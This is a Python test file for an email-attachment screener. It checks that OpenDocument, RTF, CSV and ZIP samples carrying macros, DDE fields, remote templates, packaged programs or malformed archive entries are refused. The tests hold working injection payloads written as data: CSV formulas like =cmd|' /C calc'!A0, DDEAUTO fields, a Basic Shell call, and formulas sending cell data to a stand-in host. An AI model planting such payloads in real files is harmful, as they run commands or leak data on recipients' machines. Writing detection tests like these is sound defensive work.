"""What OpenDocument, RTF, CSV and odd archives may hold: each line is one file, and its outcome."""

import struct

import pytest

from tests.attachments import office_97_files as old
from tests.attachments import office_files as new
from tests.attachments import ole
from tests.attachments.judging import judged
from tests.attachments.samples import archive

PROGRAM = ole.tree({"\x01Ole10Native": old.package("calc.exe")}, {"": old.PACKAGER})
MODULE = '<!DOCTYPE script:module PUBLIC "-//a" "module.dtd"><script:module>{}</script:module>'
LISTENER = (
    '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:Standard.M.a?language=Basic&amp;location=document"/>'
)
CODE = MODULE.format("Sub a\nShell &quot;calc&quot;\nEnd Sub")


def text(body: str = "", parts: new.Parts | None = None, **more: str) -> bytes:
    return new.odf("text", body, parts, **more)


OPENDOCUMENT = {
    "Basic": ("a.odt", text(parts={"Basic/Standard/M.xml": CODE}), "macro"),
    "Basic in another library": (
        "a.ods",
        new.odf("spreadsheet", parts={"Basic/Vie/M.xml": CODE}),
        "macro",
    ),
    "Python": ("a.odt", text(parts={"Scripts/python/a.py": "x"}), "macro"),
    "a listener": ("a.odt", text(LISTENER), "macro"),
    "a link to a macro": (
        "a.odt",
        text('<text:a xlink:href="vnd.sun.star.script:a.py$b"/>'),
        "macro",
    ),
    "DDE in a text": (
        "a.odt",
        text('<text:dde-connection-decl office:dde-application="cmd"/>'),
        "active",
    ),
    "DDE in a table": ("a.ods", new.odf("spreadsheet", "<table:dde-link/>"), "active"),
    "DDE in a formula": (
        "a.ods",
        new.odf(
            "spreadsheet",
            '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;1)"/>',
        ),
        "active",
    ),
    "a frame from the Web": (
        "a.odt",
        text('<draw:floating-frame xlink:href="http://x/"/>'),
        "active",
    ),
    "a section from the Web": (
        "a.odt",
        text('<text:section-source xlink:href="http://x/a.odt"/>'),
        "active",
    ),
    "an object from another computer": (
        "a.odt",
        text('<draw:object xlink:href="//host/a"/>'),
        "active",
    ),
    "an applet": ("a.odt", text("<draw:applet/>"), "active"),
    "a slide that starts a program": (
        "a.odp",
        new.odf(
            "presentation",
            '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>',
        ),
        "active",
    ),
    "a packaged program": ("a.odt", text(parts={"Object 1": PROGRAM}), "active"),
    "a password": (
        "a.odt",
        text(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"),
        "encrypted",
    ),
    "a text": ("a.odt", text("<text:p>Bonjour, DDE(cmd) et Basic/Standard</text:p>"), ""),
    "a drawing": ("a.odg", new.odf("graphics"), ""),
    "a template": ("a.ott", new.odf("text-template"), ""),
    "empty libraries": (
        "a.ods",
        new.odf(
            "spreadsheet",
            parts={
                "Basic/script-lc.xml": (
                    '<library:libraries><library:library library:name="Standard"/>'
                    "</library:libraries>"
                ),
                "Basic/Standard/script-lb.xml": (
                    '<library:library><library:element library:name="M"/></library:library>'
                ),
                "Basic/Standard/M.xml": MODULE.format(
                    "REM  *****  BASIC  *****\n\nSub Main\n\nEnd Sub\n"
                ),
            },
        ),
        "",
    ),
    "links, pictures and objects": (
        "a.odt",
        text(
            '<text:a xlink:href="https://x.example/a.exe"/><draw:image xlink:href="https://x.example/a.png"/>'
            '<draw:object xlink:href="./Object 1"/><text:section-source xlink:href="../lot2.odt"/>'
        ),
        "",
    ),
    "slides with buttons": (
        "a.odp",
        new.odf("presentation", '<presentation:event-listener presentation:action="next-page"/>'),
        "",
    ),
    "an array in a formula": (
        "a.ods",
        new.odf("spreadsheet", '<table:table-cell table:formula="of:=SUM({1;2|3;4})"/>'),
        "",
    ),
}

RTF = {
    "an object": (rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "active"),
    "a link that updates": (rb"{\rtf1{\object\objautlink\objupdate}}", "active"),
    "an object in other letters": (rb"{\rtf1{\ObJdata 00}}", "active"),
    "DDE": (rb'{\rtf1{\field{\*\fldinst {DDEAUTO cmd "/c calc"}}{\fldrslt x}}}', "active"),
    "DDE in pieces": (
        rb"{\rtf1{\field{\*\fldinst {D}{\b DE}{\i AUTO} cmd}{\fldrslt x}}}",
        "active",
    ),
    "DDE in codes": (rb"{\rtf1{\field{\*\fldinst \u68?\'44\u69?AUTO cmd}{\fldrslt x}}}", "active"),
    "a template from the Web": (rb"{\rtf1{\*\template http://x.example/t.dot}}", "active"),
    "a template of another computer": (rb"{\rtf1{\*\template \\\\host\\t.dot}}", "active"),
    "a text": (rb"{\rtf1\ansi Bonjour \b Camille\b0\par DDEAUTO et \\object, \{x\}}", ""),
    "a picture and a link": (
        rb"{\rtf1{\*\template C:\\Modeles\\Devis.dot}{\pict\jpegblip ffd8ffe0}"
        rb'{\field{\*\fldinst HYPERLINK "https://x.example"}{\fldrslt x}}}',
        "",
    ),
}

CSV_ACTIVE = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "nom;\"=cmd|' /C calc'!A0\"",
    "\t=cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"a")',
    "nom,  =cmd|'/c'!A1",
    '=WEBSERVICE("http://x.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://x/?";A1);"//a")',
    '=HYPERLINK("http://x.example/?"&A1;"Voir")',
    '=LIEN_HYPERTEXTE("C:\\a.exe";"Voir")',
    "＝cmd|'/c calc'!A0",
    '=IMPORTDATA("http://x.example")',
]
CSV_READY = [
    "nom;téléphone\nMorel;+33 6 12 34 56 78",
    "lot;solde\n2;-12,5",
    "@camille;Bonjour",
    "- carrelage\n- plinthes",
    "lot;total\n2;=SUM(B1:B9)",
    '="00123";Morel',
    '=HYPERLINK("https://x.example/plan";"Plan")',
    "a|b|c\n-1|Oui!|x",
    "formule =cmd|' /C calc'!A0 est dangereuse ; ne pas l'ouvrir",
    "ID;Nom\n1;Camille",
    "- Call (06 12 34) Odile",
    '=A1&" | "&B1',
    "-5 | Lot A|Oui! fini",
]


@pytest.mark.parametrize("line", OPENDOCUMENT)
def test_opendocument(line: str) -> None:
    name, content, reason = OPENDOCUMENT[line]

    found = judged(name, content)

    assert (found.reason, found.name) == (reason, name), found.detail


@pytest.mark.parametrize("line", RTF)
@pytest.mark.parametrize("name", ["a.rtf", "a.doc"])
def test_rtf(line: str, name: str) -> None:
    content, reason = RTF[line]

    found = judged(name, content)

    assert found.reason == reason, found.detail
    assert reason or found.name == "a.rtf"


@pytest.mark.parametrize("number", range(len(CSV_ACTIVE)))
def test_table_that_starts_a_program_or_sends_cells_away_is_refused(number: int) -> None:
    assert judged("a.csv", CSV_ACTIVE[number].encode()).reason == "active"


@pytest.mark.parametrize("number", range(len(CSV_READY)))
def test_table_with_signs_and_sums_is_ready(number: int) -> None:
    found = judged("a.csv", CSV_READY[number].encode())

    assert (found.reason, found.name) == ("", "a.csv"), found.detail


def _doubled() -> bytes:
    return archive(
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<a/>"),
        ("Word/Document.xml", b"<b/>"),
    )


def _written_twice() -> bytes:
    return archive(
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<a/>"),
        ("word/document.xml", b"<a/>"),
    )


def _with_another_header() -> bytes:
    """A document whose directory and first header name a part differently."""
    content = bytearray(new.ooxml("docx"))
    at = content.index(b"word/document.xml")
    content[at : at + 4] = b"evil"
    return bytes(content)


def _with_another_size() -> bytes:
    content = bytearray(new.ooxml("docx"))
    struct.pack_into("<I", content, 22, 7)
    return bytes(content)


def _overlapping() -> bytes:
    """A document of which two entries of the directory share the bytes of one."""
    content = bytearray(new.ooxml("docx", {"word/x.xml": "<a/>", "word/y.xml": "<a/>"}))
    first = content.rindex(b"word/x.xml") - 46
    second = content.rindex(b"word/y.xml") - 46
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


ZIPS = {
    "two parts of one name": (_doubled, "name_and_type_differ"),
    "one part written twice": (_written_twice, ""),
    "a name that differs": (_with_another_header, "name_and_type_differ"),
    "a size that differs": (_with_another_size, "name_and_type_differ"),
    "parts that overlap": (_overlapping, "name_and_type_differ"),
}


@pytest.mark.parametrize("line", ZIPS)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_archive_that_two_readers_read_differently_is_refused(line: str) -> None:
    made, reason = ZIPS[line]

    assert judged("a.docx", made()).reason == reason


def test_something_before_a_document_is_refused() -> None:
    assert judged("a.docx", b"PK\x03\x04" + bytes(60) + new.ooxml("docx")).reason != ""
